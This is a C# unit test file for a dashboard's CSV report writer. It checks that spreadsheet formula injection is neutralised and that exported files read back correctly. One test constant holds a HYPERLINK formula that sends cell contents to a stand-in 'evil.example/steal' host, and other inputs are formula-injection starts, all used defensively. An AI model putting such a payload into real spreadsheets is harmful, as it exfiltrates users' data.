using Dashboard.Core.Export;
using Dashboard.Core.Import;
using Dashboard.Core.Reports;

namespace Dashboard.Tests.Core.Export;

public sealed class ReportCsvWriterTests
{
    private const string Hyperlink = "=HYPERLINK(\"http://evil.example/steal?d=\"&A1,\"Click for details\")";

    [Fact]
    public async Task SummaryStartingWithHyperlink_IsExportedNeutralised()
    {
        var cells = await WriteAndReadCellsAsync(Report(summary: Hyperlink));

        Assert.Equal("'" + Hyperlink, cells[0]["summary"]);
    }

    [Theory]
    [InlineData("=1+1")]
    [InlineData("+1")]
    [InlineData("-1")]
    [InlineData("@SUM(A1)")]
    [InlineData("\tcmd")]
    [InlineData("\r=cmd")]
    public async Task EveryFormulaStart_IsEscaped(string title)
    {
        var cells = await WriteAndReadCellsAsync(Report(title: title));

        Assert.Equal("'" + title, cells[0]["title"]);
        Assert.Equal(SpreadsheetFormulaGuard.Neutralise(title), cells[0]["title"]);
    }

    [Theory]
    [InlineData("'quoted")]
    [InlineData("'=already escaped")]
    public async Task ACellStartingWithTheEscape_IsEscapedToo_SoThatImportRestoresIt(string items)
    {
        var cells = await WriteAndReadCellsAsync(Report(items: items));

        Assert.Equal("'" + items, cells[0]["items"]);
        Assert.Equal(items, SpreadsheetFormulaGuard.Restore(cells[0]["items"]));
    }

    [Fact]
    public async Task OrdinaryText_IsWrittenAsItIs()
    {
        var cells = await WriteAndReadCellsAsync(Report(title: "Shahed drones, \"Geran-2\"", summary: "Drones = weapons; a-b"));

        Assert.Equal("Shahed drones, \"Geran-2\"", cells[0]["title"]);
        Assert.Equal("Drones = weapons; a-b", cells[0]["summary"]);
    }

    [Fact]
    public async Task Output_HasTheFormatsColumnsInOrder_ThenState_AndOneRowPerFurtherSource()
    {
        var report = Report() with
        {
            State = ReportState.InReview,
            Sources = [new ExportedSource("First", "P1", "https://example.org/1", new DateOnly(2024, 1, 1), null, false), new ExportedSource("Second", "P2", null, null, null, false)],
        };

        using var stream = new MemoryStream();
        await ReportCsvWriter.WriteAsync(stream, [report]);
        var lines = System.Text.Encoding.UTF8.GetString(stream.ToArray()).Split("\r\n");

        Assert.Equal(string.Join(',', ReportCsvColumns.All) + ",state", lines[0]);
        Assert.EndsWith(",in-review", lines[1], StringComparison.Ordinal);
        Assert.Equal("R1,,,,,,,,,,,,,,,,,Second,P2,,,", lines[2]);
        Assert.False(stream.ToArray().AsSpan().StartsWith("\uFEFF"u8), "no byte order mark is written");
    }

    [Fact]
    public async Task WrittenFile_ReadsBackAsTheSameValues()
    {
        var report = Report(title: "=1+1 is a formula", summary: "-minus\nand a line break", items: "'apostrophe");
        using var stream = new MemoryStream();
        await ReportCsvWriter.WriteAsync(stream, [report]);

        var read = new ReportCsvReader(TimeProvider.System).Read(stream.ToArray());

        Assert.Empty(read.Issues);
        var parsed = Assert.Single(read.Reports);
        Assert.Equal((report.Title, report.Summary, report.Items), (parsed.Title, parsed.Summary, parsed.Items));
    }

    private static ExportedReport Report(string title = "A report title", string summary = "A summary", string? items = null) => new()
    {
        Id = 1,
        ExternalId = "R1",
        Title = title,
        Summary = summary,
        ConflictSlug = "test-war",
        ConflictName = "Test war",
        SupplierCountryCode = "CN",
        RecipientName = "Testland",
        Category = SupportCategory.DualUse,
        AidTypes = ["drones"],
        Items = items,
        Entities = [],
        EvidenceStatus = EvidenceStatus.Reported,
        Confidence = ConfidenceLevel.High,
        ReportedDate = new DateOnly(2024, 1, 2),
        State = ReportState.Published,
        Sources = [new ExportedSource("Source", "Publisher", "https://example.org", new DateOnly(2024, 1, 2), null, false)],
    };

    /// <summary>The written file read back as raw cells (no import rules), one dictionary per row.</summary>
    private static async Task<List<Dictionary<string, string>>> WriteAndReadCellsAsync(ExportedReport report)
    {
        using var stream = new MemoryStream();
        await ReportCsvWriter.WriteAsync(stream, [report]);
        using var reader = CsvHelper.CsvReader.Create(stream.ToArray(), new CsvHelper.CsvReaderOptions { Separator = ',', HasHeader = true });
        var rows = new List<Dictionary<string, string>>();
        while (reader.Read())
        {
            rows.Add(reader.Headers.Select((h, i) => (h, i)).ToDictionary(x => x.h, x => reader.GetString(x.i) ?? string.Empty));
        }

        return rows;
    }
}
